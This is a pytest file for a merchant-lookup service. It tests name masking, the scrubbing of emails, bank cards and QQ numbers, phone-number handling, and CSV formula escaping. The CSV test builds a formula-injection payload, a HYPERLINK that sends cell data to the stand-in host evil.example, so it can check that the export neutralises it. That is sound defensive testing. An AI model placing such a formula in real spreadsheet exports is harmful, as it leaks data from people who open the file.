"""Smaller leaks (issue 17, hole 12): business names matched inside personal names, what the
open-data scrub missed, formulas in CSV cells."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from tests.merchants.helpers import file
from weiquan.common.privacy import is_business_name
from weiquan.common.spreadsheet import safe_cell
from weiquan.merchants.export import COLUMNS, write_csv
from weiquan.merchants.present import mask_identifier
from weiquan.merchants.scrub import MARKER, luhn, scrub


def _card(prefix: str, length: int) -> str:
    """A card number of that length that passes the Luhn check."""
    body = (prefix + "7" * length)[: length - 1]
    return next(body + d for d in "0123456789" if luhn(body + d))


@pytest.mark.parametrize(
    ("name", "business"),
    [
        ("Vincent", False),
        ("Prince", False),
        ("Vincent Li", False),
        ("Coltrane", False),
        ("Limitedless Wang", False),
        ("Acme Inc.", True),
        ("Acme Inc", True),
        ("ACME LTD", True),
        ("Foo Co., Ltd.", True),
        ("杭州诚品体育用品有限公司", True),
        ("小美奢品店", True),
        ("林小美", False),
    ],
)
def test_business_suffixes_match_whole_words(name: str, business: bool) -> None:
    assert is_business_name(name) is business
    shown = mask_identifier("real_name", name)
    assert (shown == name) is business
    if not business:
        assert shown == name[0] + "*"


def test_a_person_named_vincent_is_masked_in_the_lookup(
    client: TestClient, sessions: sessionmaker[Session]
) -> None:
    file(sessions, {"wechat_id": "vince_shop01", "name": "Vincent", "platform": "微信"})
    file(sessions, {"wechat_id": "acme_shop01", "name": "Acme Inc.", "platform": "微信"})
    vincent = client.post("/api/merchants/lookup", json={"q": "vince_shop01"}).json()
    assert "Vincent" not in str(vincent)
    shown = {i["kind"]: i["shown"] for i in vincent["matches"][0]["identifiers"]}
    assert shown["name"] == "V*"
    acme = client.post("/api/merchants/lookup", json={"q": "acme_shop01"}).json()
    assert {i["shown"] for i in acme["matches"][0]["identifiers"]} >= {"Acme Inc."}


@pytest.mark.parametrize(
    "text",
    [
        "卖家让我发邮件到 wang.li+shop@example.com.cn 再退款",
        "他的邮箱是 li＠qq.com",
        "他说把退款打到 12345678@qq.com",
    ],
)
def test_scrub_removes_emails(text: str) -> None:
    out = scrub(text)
    assert "@" not in out and "＠" not in out and MARKER in out


@pytest.mark.parametrize("length", [16, 17, 18, 19])
@pytest.mark.parametrize("sep", ["", " ", "-"])
def test_scrub_removes_bank_cards(length: int, sep: str) -> None:
    number = _card("6222", length)
    typed = sep.join(number[i : i + 4] for i in range(0, length, 4))
    out = scrub(f"退款请打到我的卡号{typed}，谢谢")
    assert out == f"退款请打到我的卡号{MARKER}，谢谢"


def test_scrub_keeps_numbers_that_are_not_cards() -> None:
    number = _card("6222", 16)
    wrong = number[:-1] + str((int(number[-1]) + 1) % 10)  # fails the Luhn check
    assert scrub(f"订单号 {wrong}") == f"订单号 {wrong}"
    assert scrub("花了 1999 元") == "花了 1999 元"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("加我QQ 12345678 聊", f"加我QQ {MARKER} 聊"),
        ("qq号：987654321", f"qq号：{MARKER}"),
        ("他的扣扣是55667788。", f"他的扣扣是{MARKER}。"),
        ("QQ号码为 10001", f"QQ号码为 {MARKER}"),
    ],
)
def test_scrub_removes_qq_numbers(text: str, expected: str) -> None:
    assert scrub(text) == expected


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_start_a_formula(start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"点我")'
    row = dict.fromkeys(COLUMNS, "")
    row.update(number="WQ-2026-000001", merchant=evil, narrative=evil, merchant_id=7)
    out = io.StringIO()
    assert write_csv(iter([row]), out) == 1
    written = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert written["merchant"] == "'" + evil and written["narrative"] == "'" + evil
    assert written["number"] == "WQ-2026-000001" and written["merchant_id"] == "7"


def test_safe_cell_leaves_other_values_alone() -> None:
    assert safe_cell("正常的文字") == "正常的文字"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(-5) == -5 and safe_cell(True) is True


def test_phone_numbers_stay_out_of_addresses(
    client: TestClient, sessions: sessionmaker[Session], make_user: Callable[..., Any]
) -> None:
    file(sessions, {"wechat_id": "lux_seller88", "phone": "13912345670", "platform": "微信"})
    # The lookup by phone number goes in a body; an address with one is refused, in words.
    for q in ("13912345670", "+86 139-1234-5670", "卖家电话 139 1234 5670"):
        r = client.get("/api/merchants/lookup", params={"q": q})
        assert r.status_code == 422, q
        assert (
            "POST /api/merchants/lookup"
            in client.get("/api/merchants/lookup", params={"q": q, "lang": "en"}).json()["detail"]
        )
    assert client.post("/api/merchants/lookup", json={"q": "13912345670"}).json()["found"] == 1
    # Other identifiers still work in a link.
    assert client.get("/api/merchants/lookup", params={"q": "lux_seller88"}).json()["found"] == 1
    page = client.get("/merchants", params={"q": "13912345670"})
    assert page.status_code == 422 and "个商家" not in page.text
    assert client.get("/merchants", params={"q": "lux_seller88"}).status_code == 200
    # Claimant profiles are asked for with the phone in the body.
    staff = make_user("agency_staff").client
    assert staff.get("/api/merchants/claimants/13912345670").status_code in (404, 405)
    r = staff.post("/api/merchants/claimants", json={"phone": "13912345670"})
    assert r.status_code == 200 and "13912345670" not in r.text
